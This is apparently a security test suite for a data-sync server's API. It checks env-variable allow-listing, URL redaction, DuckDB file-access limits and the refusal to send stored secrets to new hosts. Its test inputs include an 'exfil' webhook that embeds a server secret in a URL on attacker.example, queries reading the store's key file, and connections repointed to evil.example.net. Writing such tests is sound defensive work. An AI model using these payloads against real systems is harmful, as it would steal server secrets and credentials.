/**
 * What an API caller can learn of the server's environment and secrets: `${ENV}` templates of entities
 * created or changed through the API read only the variables LOCKSTEP_ENV_ALLOW lists (refused with a
 * 422 naming the variable and the setting, and again when a run resolves them); workspace-file
 * entities read any; a run's error never holds a value read from the environment; secret URLs are
 * answered with their user information and query values hidden, whatever the parameters are called.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { duckdb } from '../../src/cli/demo.js';
import { createConnectorRegistry } from '../../src/app.js';
import { EnvAllowList, redactUrl } from '../../src/core/connections.js';
import { resolveConnection } from '../../src/core/connector-registry.js';
import { createTestDatabase } from '../helpers/postgres.js';
import { model, sync } from '../helpers/definitions.js';
import { PG_PASSWORD, startApi, type ApiHarness } from './api-helpers.js';

const SERVER_SECRET = 'server-only-s3cret-value';
const ACCESS_TOKEN = 'tok-4ccess-9f8e7d6c';
let api: ApiHarness;

beforeAll(async () => {
  api = await startApi({
    env: {
      SERVER_SECRET,
      LOCKSTEP_SECRET_KEY: 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=',
      LOCKSTEP_ENV_ALLOW: 'CRM_PATH, API_*',
      CRM_PATH: 'crm.db',
      API_DB_NAME: 'missing-folder-x9/allowed-db-name.db',
      API_WH_URL: 'http://wh-host-k2.example.com/warehouse',
      FILE_DB_PATH: '/no-such-folder-q7/file-db-secret-name.db',
      EXPORTED_EMPTY: '',
    },
  });
});
afterAll(async () => {
  await api?.[Symbol.asyncDispose]();
});

describe('the allow-list', () => {
  it('parses names and prefixes, and never opens the store keys', () => {
    const list = EnvAllowList.parse(' CRM_URL , HUBSPOT_* ');
    expect(list.allows('CRM_URL')).toBe(true);
    expect(list.allows('HUBSPOT_TOKEN')).toBe(true);
    expect(list.allows('CRM_URL2')).toBe(false);
    expect(EnvAllowList.parse(undefined).allows('CRM_URL')).toBe(false);
    expect(EnvAllowList.parse('*').allows('LOCKSTEP_SECRET_KEY')).toBe(false);
    expect(EnvAllowList.parse('*').allows('ANYTHING')).toBe(true);
    expect(() => EnvAllowList.parse('CRM-URL')).toThrow(/LOCKSTEP_ENV_ALLOW lists "CRM-URL".*CRM_URL,HUBSPOT_\*/);
  });
});

describe('${ENV} in entities created through the API', () => {
  it('refuses a variable the allow-list does not list, naming it and the setting; nothing is stored', async () => {
    const before = await api.app.store.loadWorkspace();
    const answer = await api.call('POST', '/api/sources', { slug: 'peek', type: 'sqlite', path: '${SERVER_SECRET}' });
    expect(answer.status).toBe(422);
    expect(answer.body.details.path).toMatch(/\$\{SERVER_SECRET\}.*LOCKSTEP_ENV_ALLOW/);
    expect(answer.text).not.toContain(SERVER_SECRET);
    const headers = await api.call('POST', '/api/destinations', { slug: 'peek', type: 'http', url: 'https://example.com', headers: { 'X-Key': 'k ${SERVER_SECRET}' } });
    expect(headers.status).toBe(422);
    expect(headers.body.details['headers.X-Key']).toContain('SERVER_SECRET');
    const key = await api.call('POST', '/api/sources', { slug: 'peek', type: 'sqlite', path: '${LOCKSTEP_SECRET_KEY}' });
    expect(key.status).toBe(422);
    expect(key.body.details.path).toContain('may never read');
    expect(await api.app.store.loadWorkspace()).toEqual(before);
  });

  it('refuses the same in a connection test and in an alert channel', async () => {
    const test = await api.call('POST', '/api/sources/test', { type: 'sqlite', path: '/tmp/${SERVER_SECRET}/x.db' });
    expect(test.status).toBe(422);
    expect(test.text).not.toContain(SERVER_SECRET);
    const channel = await api.call('POST', '/api/alerts/channels', { name: 'exfil', type: 'webhook', url: 'https://attacker.example/${SERVER_SECRET}' });
    expect(channel.status).toBe(422);
    expect(channel.body.details.url).toContain('SERVER_SECRET');
    expect((await api.app.store.alerts.getDefinition()).channels).toEqual([]);
  });

  it('answers a variable it may not read the same whether the server sets it, sets it empty or not at all', async () => {
    const bodies = (name: string): Array<[string, string, Record<string, unknown>]> => [
      ['POST', '/api/sources', { slug: 'peek', type: 'sqlite', path: `\${${name}}` }],
      ['POST', '/api/sources/test', { type: 'postgres', url: `\${${name}}` }],
      ['POST', '/api/destinations', { slug: 'peek', type: 'http', url: 'https://example.com', headers: { 'X-Key': `\${${name}}` } }],
      ['POST', '/api/alerts/channels', { name: 'peek', type: 'webhook', url: `\${${name}}` }],
      ['POST', '/api/alerts/channels', { name: 'peek', type: 'webhook', url: 'https://example.com/hook', secret: `\${${name}}` }],
      ['POST', '/api/alerts/channels', { name: 'peek', type: 'pagerduty', routingKey: `\${${name}}` }],
      ['POST', '/api/alerts/channels', { name: 'peek', type: 'email', smtp: 'smtp://localhost:25', from: 'a@example.com', to: [`\${${name}}`] }],
    ];
    const answers = async (name: string) => {
      const out: string[] = [];
      for (const [method, path, body] of bodies(name)) {
        const answer = await api.call(method, path, body);
        expect(answer.status).toBe(422);
        out.push(answer.text.split(name).join('VAR'));
      }
      return out;
    };
    const unset = await answers('NEVER_EXPORTED');
    expect(unset[0]).toContain('LOCKSTEP_ENV_ALLOW');
    expect(await answers('SERVER_SECRET')).toEqual(unset);
    expect(await answers('EXPORTED_EMPTY')).toEqual(unset);
    // A stored entity changed through the API is answered the same.
    await api.app.store.upsertEntity('source', { slug: 'kept', type: 'sqlite', settings: { path: 'kept.db' } }, 'file', api.app.clock.now());
    const put = async (name: string) => (await api.call('PUT', '/api/sources/kept', { type: 'sqlite', path: `\${${name}}` })).text.split(name).join('VAR');
    expect(await put('SERVER_SECRET')).toEqual(await put('NEVER_EXPORTED'));
    expect((await api.call('DELETE', '/api/sources/kept')).status).toBe(204);
    await api.app.store.updateAlerts((current) => ({ ...current, channels: [...current.channels, { name: 'kept', type: 'webhook', url: 'https://example.com/kept', headers: {}, secret: null }] }), api.app.clock.now());
    const putChannel = async (name: string) => (await api.call('PUT', '/api/alerts/channels/kept', { type: 'webhook', url: `\${${name}}` })).text.split(name).join('VAR');
    expect(await putChannel('SERVER_SECRET')).toEqual(await putChannel('NEVER_EXPORTED'));
    expect((await api.call('DELETE', '/api/alerts/channels/kept')).status).toBe(204);
  });

  it('checks a URL as a listed variable gives it, naming the variable and never its value', async () => {
    const answer = await api.call('POST', '/api/sources', { slug: 'wh', type: 'postgres', url: '${API_WH_URL}' });
    expect(answer.status).toBe(422);
    expect(answer.body.details.url).toBe(
      'url must start with postgres:// or postgresql://, not http:// (as ${API_WH_URL} gives it) — check API_WH_URL: e.g. postgres://user:password@host:5432/database',
    );
    expect(answer.text).not.toContain('wh-host-k2');
  });

  it('accepts listed names and prefixes', async () => {
    const created = await api.call('POST', '/api/sources', { slug: 'listed', type: 'sqlite', path: '${CRM_PATH}' });
    expect(created.status).toBe(201);
    expect((await api.call('POST', '/api/sources/test', { slug: 'listed', type: 'sqlite', path: '${CRM_PATH}' })).body.ok).toBe(true);
    expect((await api.call('DELETE', '/api/sources/listed')).status).toBe(204);
  });

  it('a file entity sent back unchanged keeps its template; changed to read a new variable it is refused', async () => {
    await api.app.store.upsertEntity('source', { slug: 'from-file', type: 'sqlite', settings: { path: '${SERVER_SECRET}' } }, 'file', api.app.clock.now());
    const read = await api.call('GET', '/api/sources/from-file');
    expect((await api.call('PUT', '/api/sources/from-file', read.body)).status).toBe(200);
    const changed = await api.call('PUT', '/api/sources/from-file', { ...read.body, path: '${SERVER_SECRET}/other.db' });
    expect(changed.status).toBe(422);
    expect(changed.body.details.path).toContain('SERVER_SECRET');
    expect((await api.call('DELETE', '/api/sources/from-file')).status).toBe(204);
  });

  it('a run of an entity the API stored earlier with an unlisted variable fails naming the setting, not the value', async () => {
    const now = api.app.clock.now();
    await api.app.store.upsertEntity('source', { slug: 'old-api', type: 'sqlite', settings: { path: '${SERVER_SECRET}' } }, 'api', now);
    await api.app.store.upsertEntity('model', model('old-api-accounts', 'old-api', 'select 1 as id'), 'api', now);
    await api.app.store.upsertEntity('sync', sync('old-api-sync', { model: 'old-api-accounts', destination: 'crm', object: 'accounts' }), 'api', now);
    const { run } = await api.app.runs.triggerSync('old-api-sync');
    const done = await api.app.runs.waitForSyncRun(run.id);
    expect(done.status).toBe('failed');
    expect(done.error).toContain('was created through the API');
    expect(done.error).toContain('LOCKSTEP_ENV_ALLOW');
    expect(done.error).not.toContain(SERVER_SECRET);
    const answer = await api.call('GET', `/api/syncs/old-api-sync/runs`);
    expect(answer.text).not.toContain(SERVER_SECRET);
  });

  it('a run error never echoes a value read from the environment', async () => {
    const now = api.app.clock.now();
    for (const [slug, path, origin] of [
      ['file-db', '${FILE_DB_PATH}', 'file'],
      ['api-db', '${API_DB_NAME}', 'api'],
    ] as const) {
      await api.app.store.upsertEntity('source', { slug, type: 'sqlite', settings: { path } }, origin, now);
      await api.app.store.upsertEntity('model', model(`${slug}-m`, slug, 'select 1 as id'), origin, now);
      await api.app.store.upsertEntity('sync', sync(`${slug}-s`, { model: `${slug}-m`, destination: 'crm', object: 'accounts' }), origin, now);
      const { run } = await api.app.runs.triggerSync(`${slug}-s`);
      const done = await api.app.runs.waitForSyncRun(run.id);
      expect(done.status, slug).toBe('failed');
      expect(done.error).not.toContain('file-db-secret-name');
      expect(done.error).not.toContain('allowed-db-name');
      expect(done.error).not.toContain('no-such-folder-q7');
    }
    expect(api.logs.join('\n')).not.toContain('file-db-secret-name');
  });
});

describe('a connection whose url the environment holds', () => {
  it('fails to open naming what is wrong, without the database name or user the variable held', async () => {
    const server = new URL(await createTestDatabase('lockstep_envurl'));
    const url = Object.assign(new URL(server), { pathname: '/secret_dbname_zz4' }).toString();
    const registry = createConnectorRegistry();
    const def = { slug: 'warehouse', type: 'postgres', settings: { url: '${WH_URL}' } };
    const error = await registry.openSource(resolveConnection(def, 'source', '/tmp', { WH_URL: url })).then(
      () => null,
      (thrown: unknown) => thrown as Error,
    );
    expect(error?.message).toMatch(/^cannot connect to source PostgreSQL/);
    expect(error?.message).toContain('***');
    expect(error?.message).not.toContain('secret_dbname_zz4');
    expect(`${error?.message} ${error?.stack}`).not.toContain(` as ${decodeURIComponent(server.username)}`);
  });
});

describe('secret URLs', () => {
  it('hides user information, the fragment and every query value but harmless connection settings, whatever the parameters are called', () => {
    expect(redactUrl('https://hooks.example.com/notify?access_token=abc&x=1#frag')).toBe('https://hooks.example.com/notify?access_token=***&x=***#***');
    expect(redactUrl('postgres://me:hunter22@db.example.com:5432/crm?sslmode=require')).toBe('postgres://me:***@db.example.com:5432/crm?sslmode=require');
    expect(redactUrl('https://t0ken@example.com/x')).toBe('https://***@example.com/x');
    // A database URL's user name alone is no token: it says who connects.
    expect(redactUrl('postgres://etl@db.example.com/crm')).toBe('postgres://etl@db.example.com/crm');
    expect(redactUrl('MySQL://etl@db.example.com/crm?password=pw')).toBe('MySQL://etl@db.example.com/crm?password=***');
    expect(redactUrl('not a url')).toBe('***');
  });

  it('shows a store URL\'s schema, sslmode and application_name; never its password, in the user information or a parameter', () => {
    const url =
      'postgres://etl:pw-hunter-1@db.example.com/crm?schema=ls_staging&sslmode=verify-full&application_name=lockstep-ci&password=pw-param-2&sslpassword=pw-ssl-3&sslkey=%2Fkeys%2Fclient.key&SSLCert=%2Fkeys%2Fc.crt&Schema=x&token=t0k#pw-frag-4';
    const shown = redactUrl(url);
    expect(shown).toBe(
      'postgres://etl:***@db.example.com/crm?schema=ls_staging&sslmode=verify-full&application_name=lockstep-ci&password=***&sslpassword=***&sslkey=***&SSLCert=***&Schema=x&token=***#***',
    );
    for (const secret of ['pw-hunter-1', 'pw-param-2', 'pw-ssl-3', 'client.key', 'c.crt', 't0k', 'pw-frag-4']) expect(shown).not.toContain(secret);
    // A parameter's name written with %-escapes is the same parameter: password stays hidden.
    expect(redactUrl('postgres://db.example.com/crm?pass%77ord=pw-escaped-5&sch%65ma=s1')).toBe('postgres://db.example.com/crm?pass%77ord=***&sch%65ma=s1');
  });

  it('GET /api/alerts answers a webhook channel URL without its token; sent back, the token stays', async () => {
    const url = `https://hooks.example.com/notify?access_token=${ACCESS_TOKEN}&team=data`;
    expect((await api.call('POST', '/api/alerts/channels', { name: 'hook', type: 'webhook', url })).status).toBe(201);
    const { body, text } = await api.call('GET', '/api/alerts');
    expect(text).not.toContain(ACCESS_TOKEN);
    expect(body.channels[0]).toMatchObject({ url: 'https://hooks.example.com/***', target: 'https://hooks.example.com/***' });
    expect((await api.call('PUT', '/api/alerts/channels/hook', body.channels[0])).status).toBe(200);
    expect((await api.app.store.alerts.getDefinition()).channels[0]).toMatchObject({ url });
    const tested = await api.call('POST', '/api/alerts/channels/hook/test');
    expect(tested.text).not.toContain(ACCESS_TOKEN);
    expect(api.logs.join('\n')).not.toContain(ACCESS_TOKEN);
    expect((await api.call('DELETE', '/api/alerts/channels/hook')).status).toBe(204);
  });
});

describe('files a DuckDB model may reach, through the API', () => {
  it("refuses a preview that reads a file outside the source's folders, and says how to allow one", async () => {
    const outside = mkdtempSync(join(tmpdir(), 'lockstep-outside-'));
    writeFileSync(join(outside, 'keys.env'), 'SERVER_SECRET=server-only\n');
    await duckdb(join(api.dir, 'lake.duckdb'), 'create table items as select 1 as id');
    expect((await api.call('POST', '/api/sources', { slug: 'lake', type: 'duckdb', path: 'lake.duckdb' })).status).toBe(201);
    const inside = await api.call('POST', '/api/models/preview', { source: 'lake', query: 'select id from items', primaryKey: 'id' });
    expect(inside.status).toBe(200);
    const peek = await api.call('POST', '/api/models/preview', { source: 'lake', query: `select content from read_text('${join(outside, 'keys.env')}')` });
    expect(peek.status).toBe(422);
    expect(JSON.stringify(peek.body)).not.toContain('server-only');
    expect(peek.body.details.query).toContain('outside the folders a DuckDB model may use');
  });

  it("never reads the store's key file or the store itself, which lie in the workspace folder, while the folder's other files stay readable", async () => {
    // Keyed by its key file (no LOCKSTEP_SECRET_KEY): once a secret is written, the file sits beside the store, in the workspace folder.
    await using api = await startApi();
    expect((await api.call('POST', '/api/alerts/channels', { name: 'signed', type: 'webhook', url: 'https://hooks.example.com/x', secret: 'whsec-kept-sealed' })).status).toBe(201);
    const keyFile = join(api.dir, 'lockstep.db.key');
    const key = readFileSync(keyFile, 'utf8').trim();
    writeFileSync(join(api.dir, 'orders.csv'), 'id,total\n1,10\n');
    await duckdb(join(api.dir, 'reach.duckdb'), 'create table items as select 1 as id');
    expect((await api.call('POST', '/api/sources', { slug: 'reach', type: 'duckdb', path: 'reach.duckdb' })).status).toBe(201);
    for (const query of [
      "select content from read_text('lockstep.db.key')",
      `select content from read_text('${keyFile}')`,
      `select content from read_text('${keyFile}.old')`,
      `select content from read_blob('${join(api.dir, 'lockstep.db')}')`,
      `select filename, content from read_blob('${join(api.dir, '*')}')`,
    ]) {
      const peek = await api.call('POST', '/api/models/preview', { source: 'reach', query });
      expect(peek.status, query).toBe(422);
      expect(peek.text).not.toContain(key);
    }
    const orders = await api.call('POST', '/api/models/preview', { source: 'reach', query: `select * from read_csv('${join(api.dir, 'orders.csv')}')`, primaryKey: 'id' });
    expect(orders.status, orders.text).toBe(200);
    expect(orders.body.rows).toEqual([[1, 10]]);
    // A pattern in the store's folder would list the key file: refused, saying how to read the others.
    const pattern = await api.call('POST', '/api/models/preview', { source: 'reach', query: `select * from read_csv('${join(api.dir, '*.csv')}')` });
    expect(pattern.status).toBe(422);
    expect(pattern.body.details.query).toContain(`${api.dir}/ holds Lockstep's store and key file: there a model reads the other files by name, and patterns only in subfolders`);
    expect((await api.call('DELETE', '/api/alerts/channels/signed')).status).toBe(204);
  });
});

describe("the store's own file, named as a connection through the API", () => {
  it('is never opened: reading or writing the store would skip every check of the API', async () => {
    await using api = await startApi();
    const store = join(api.dir, 'lockstep.db');
    expect((await api.call('POST', '/api/destinations', { slug: 'self', type: 'sqlite', path: 'lockstep.db' })).status).toBe(201);
    expect((await api.call('POST', '/api/sources', { slug: 'self-read', type: 'sqlite', path: `${api.dir}/./lockstep.db` })).status).toBe(201);
    const refusal = `setting path names a file of Lockstep's own store (${store}) — point it at another file`;
    const objects = await api.call('GET', '/api/destinations/self/objects');
    expect(objects.status).toBe(422);
    expect(objects.body.details.destination).toContain(refusal);
    const preview = await api.call('POST', '/api/models/preview', { source: 'self-read', query: 'select id, hash from api_tokens', primaryKey: 'id' });
    expect(preview.status).toBe(422);
    expect(preview.body.details.source).toContain(refusal);
    // A sync writing rows into the store's tokens: fails before it writes any.
    const tokens = await api.app.store.tokens.list();
    const created = await api.call('POST', '/api/syncs', { slug: 'plant-token', model: 'accounts', destination: 'self', object: 'api_tokens', mode: 'upsert' });
    expect(created.status, created.text).toBe(201);
    const queued = await api.call('POST', '/api/syncs/plant-token/runs', {});
    const run = await api.app.runs.waitForSyncRun(queued.body.id);
    expect(run.status).toBe('failed');
    expect(run.error).toContain(refusal);
    expect(await api.app.store.tokens.list()).toEqual(tokens);
  });
});

describe('a stored secret sent back hidden, with the connection pointed elsewhere', () => {
  it('is refused, so that whoever may edit a connection cannot send its password or token to a host of theirs', async () => {
    await using api = await startApi();
    const stored = async (slug: string) => (await api.app.store.loadWorkspace()).destinations.find((d) => d.slug === slug)!.settings;
    const before = await stored('pg');
    const moved = await api.call('PUT', '/api/destinations/pg', { type: 'postgres', url: 'postgres://lockstep:***@evil.example.net:5432/crm' });
    expect(moved.status).toBe(422);
    expect(moved.body.details.url).toContain('now points at postgres://evil.example.net:5432 instead of postgres://db.example.com:5432: a stored secret is not sent to another host');
    const tested = await api.call('POST', '/api/destinations/test', { slug: 'pg', type: 'postgres', url: 'postgres://lockstep:***@evil.example.net:5432/crm' });
    expect(tested.status).toBe(422);
    expect(await stored('pg')).toEqual(before);
    // The same host, another database: the stored password is kept, as before.
    const sameHost = await api.call('PUT', '/api/destinations/pg', { type: 'postgres', url: 'postgres://lockstep:***@db.example.com:5432/crm2' });
    expect(sameHost.status, sameHost.text).toBeLessThan(300);
    expect((await stored('pg')).url).toBe(`postgres://lockstep:${PG_PASSWORD}@db.example.com:5432/crm2`);

    const headers = { Authorization: 'Bearer tok-kept-secret-123' };
    expect((await api.call('POST', '/api/destinations', { slug: 'api', type: 'http', url: 'https://api.example.com/v1', headers })).status).toBe(201);
    const elsewhere = await api.call('PUT', '/api/destinations/api', { type: 'http', url: 'https://collector.example.net/v1', headers: { Authorization: '***' } });
    expect(elsewhere.status).toBe(422);
    expect(elsewhere.body.details['headers.Authorization']).toContain('a stored secret is not sent to another host');
    expect((await stored('api')).headers).toEqual(headers);
    // A URL given where the stored connection had none (HubSpot's default host) points elsewhere too.
    expect((await api.call('POST', '/api/destinations', { slug: 'hub', type: 'hubspot', accessToken: 'pat-na1-kept-token' })).status).toBe(201);
    const hub = await api.call('PUT', '/api/destinations/hub', { type: 'hubspot', accessToken: '***', baseUrl: 'https://collector.example.net' });
    expect(hub.status).toBe(422);
    expect(hub.body.details.accessToken).toContain('now points at https://collector.example.net instead of its default');
    // Typed again, the secret goes with the new address.
    const retyped = await api.call('PUT', '/api/destinations/api', { type: 'http', url: 'https://collector.example.net/v1', headers: { Authorization: 'Bearer other-token' } });
    expect(retyped.status, retyped.text).toBeLessThan(300);
  });
});

